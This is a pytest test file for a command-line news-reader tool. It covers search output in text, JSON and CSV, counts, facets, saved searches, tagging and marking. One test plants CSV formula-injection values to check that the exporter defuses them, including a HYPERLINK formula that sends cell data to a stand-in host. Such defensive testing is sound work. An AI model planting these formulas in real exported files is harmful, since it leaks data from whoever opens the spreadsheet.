from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from kurilreader.domain import Article, article_id
from kurilreader.domain.printable import is_printable
from kurilreader.library import open_library

from .conftest import Run


def records(out: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in out.splitlines()]


def table(out: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(out)))


@pytest.fixture
def batch(tmp_path: Path) -> Path:
    file = tmp_path / "queries.txt"
    file.write_text("\ufeff# followed\n\n talks \nzebra\n(drill\n", encoding="utf-8")
    return file


def test_a_batch_as_a_table(run: Run, library: Path, batch: Path) -> None:
    ran = run("--library", library, "search", "--batch", batch, "--csv")
    assert ran.code == 0
    names, *lines = table(ran.out)
    assert names == ["query", "id", "title", "date", "source", "snippet"]
    assert [(line[0], line[2][:5], line[3]) for line in lines] == [
        ("talks", "Talks", "2025-03-04"),
        ("(drill", "Drill", "2024-01-02"),
    ]
    assert "Shikotan" in lines[0][5]
    assert "zebra: nothing found" in ran.err
    assert "^" in ran.err
    assert all(is_printable(line) for line in ran.out.splitlines())


def test_a_batch_as_text_and_as_json(run: Run, library: Path, batch: Path) -> None:
    text = run("--library", library, "search", "--batch", batch)
    assert [line for line in text.out.splitlines() if line.startswith("#")] == ["# talks", "# zebra", "# (drill"]
    found = records(run("--library", library, "search", "--batch", batch, "--json").out)
    assert [(hit["schema"], hit["query"]) for hit in found] == [
        ("kurilreader.search/1", "talks"),
        ("kurilreader.search/1", "(drill"),
    ]
    assert {"tags", "outlets", "reviewed"} <= set(found[0])


def test_counts(run: Run, library: Path, batch: Path) -> None:
    assert run("--library", library, "search", "--count", "talks", "OR", "drill").out == "2\n"
    assert run("--library", library, "search", "--count", "--batch", batch).out == "1  talks\n0  zebra\n1  (drill\n"
    assert records(run("--library", library, "search", "--count", "--json", "talks").out) == [
        {"schema": "kurilreader.count/1", "query": "talks", "total": 1}
    ]
    assert table(run("--library", library, "search", "--count", "--csv", "talks").out) == [
        ["query", "total"],
        ["talks", "1"],
    ]


def test_facets(run: Run, library: Path) -> None:
    run("--library", library, "tag", "add", "Read Me", "talks")
    assert "party  RU  1\n" in run("--library", library, "search", "--facets", "talks").out
    (found,) = records(run("--library", library, "search", "--facets", "--json", "talks OR drill").out)
    assert found["schema"] == "kurilreader.facets/1"
    assert {facet["value"]: facet["count"] for facet in found["facets"]["party"]} == {"RU": 1, "JP": 1}
    assert found["facets"]["tag"] == [{"value": "read-me", "count": 1, "query": "tag:read-me"}]
    lines = table(run("--library", library, "search", "--facets", "--csv", "talks").out)
    assert lines[0] == ["query", "field", "value", "count"]
    assert ["talks", "month", "2025-03", "1"] in lines


def test_no_cell_is_a_formula(run: Run, tmp_path: Path) -> None:
    opened = open_library(tmp_path / "hostile")
    text = '=HYPERLINK("http://example.org/?"&A1,"fish")'
    opened.add(Article(article_id(text), "\t@SUM(1+1) fish", text, source="-2+3"))
    opened.close()
    (_, line) = table(run("--library", tmp_path / "hostile", "search", "--csv", "fish").out)
    assert [cell[0] for cell in line[2:] if cell] == ["'", "'", "'"]


@pytest.mark.parametrize(
    "arguments",
    [["search"], ["search", "--batch", "x", "query"], ["search", "--json", "--csv", "q"], ["tag", "add", "x"]],
)
def test_wrong_usage(run: Run, library: Path, arguments: list[str]) -> None:
    ran = run("--library", library, *arguments)
    assert (ran.code, ran.out) == (2, "")
    assert "usage: kurilreader" in ran.err


def test_a_batch_that_cannot_be_read_is_told(run: Run, library: Path, tmp_path: Path) -> None:
    file = tmp_path / "latin"
    file.write_bytes(b"caf\xe9")
    for path, told in ((tmp_path / "none", "cannot be read"), (file, "is not UTF-8")):
        ran = run("--library", library, "search", "--batch", path)
        assert ran.code == 1
        assert told in ran.err


def test_saved_searches(run: Run, library: Path) -> None:
    assert "no saved searches" in run("--library", library, "searches").err
    assert (
        run("--library", library, "searches", "save", "Drills\x1b", "drill", "OR", "talks", "--order", "source").code
        == 0
    )
    assert run("--library", library, "searches").out == "Drills  2 unread, 0 new, 2 in all  drill OR talks\n"
    run("--library", library, "searches", "rename", "Drills", "Both")
    run("--library", library, "searches", "visit", "Both")
    assert records(run("--library", library, "searches", "--json", "list").out) == [
        {
            "schema": "kurilreader.saved-search/1",
            "name": "Both",
            "query": "drill OR talks",
            "order": "source",
            "unread": 2,
            "new": 0,
            "total": 2,
        }
    ]
    assert run("--library", library, "searches", "delete", "Both").code == 0
    ran = run("--library", library, "searches", "delete", "Both")
    assert ran.code == 1
    assert 'no saved search "Both"' in ran.err


def test_visiting_the_library_leaves_nothing_new(run: Run, library: Path) -> None:
    assert run("--library", library, "search", "--count", "is:new").out == "3\n"
    run("--library", library, "searches", "visit")
    assert run("--library", library, "search", "--count", "is:new").out == "0\n"


def test_tags_go_on_and_off_what_a_query_finds(run: Run, library: Path) -> None:
    (hit,) = records(run("--library", library, "search", "--json", "nemuro").out)
    ran = run("--library", library, "tag", "add", "To Do", "talks OR drill", "--id", hit["id"][:8], "--dry-run")
    assert "3 articles" in ran.err
    assert run("--library", library, "tag").out == ""
    assert "2 of 2 articles changed" in run("--library", library, "tag", "add", "To Do", "talks", "OR", "drill").err
    assert "1 of 2" in run("--library", library, "tag", "add", "to-do", "talks", "--id", hit["id"]).err
    assert run("--library", library, "tag", "list").out == "3  to-do\n"
    assert run("--library", library, "search", "--count", "tag:to-do").out == "3\n"
    assert "1 of 1" in run("--library", library, "tag", "remove", "to-do", "talks").err
    ran = run("--library", library, "tag", "remove", "to-do", "(drill")
    assert ran.code == 2
    assert "nothing was done" in ran.err
    assert run("--library", library, "tag").out == "2  to-do\n"


def test_all_that_a_query_finds_is_marked_and_counted_before(run: Run, library: Path) -> None:
    assert "2 articles" in run("--library", library, "mark", "star", "talks OR drill", "--dry-run").err
    for words in (["--dry-run", "talks", "OR", "drill"], ["talks", "OR", "--dry-run", "drill"]):
        assert "2 articles" in run("--library", library, "mark", "star", *words).err
        assert "2 articles" in run("--library", library, "tag", "add", "X", *words).err
    assert "1 articles" in run("--library", library, "mark", "star", "--dry-run", "--", "-talks", "-drill").err
    assert run("--library", library, "search", "--count", "is:starred").out == "0\n"
    assert "2 of 2 articles changed" in run("--library", library, "mark", "star", "talks", "OR", "drill").err
    assert "1 of 2 articles changed" in run("--library", library, "mark", "unstar", "drill", "OR", "quiet").err
    assert run("--library", library, "search", "--count", "is:starred").out == "1\n"
    (hit,) = records(run("--library", library, "search", "--json", "nemuro").out)
    assert "1 of 1" in run("--library", library, "mark", "read", "--id", hit["id"]).err
    assert run("--library", library, "search", "--count", "is:unread").out == "2\n"
    ran = run("--library", library, "mark", "read", "drill", "kind:nothing")
    assert ran.code == 2 and "^" in ran.err and "nothing was done" in ran.err
    assert run("--library", library, "search", "--count", "is:read").out == "1\n"


@pytest.mark.parametrize("arguments", [["mark"], ["mark", "star"], ["mark", "paint", "talks"]])
def test_marking_nothing_is_wrong_usage(run: Run, library: Path, arguments: list[str]) -> None:
    assert run("--library", library, *arguments).code == 2
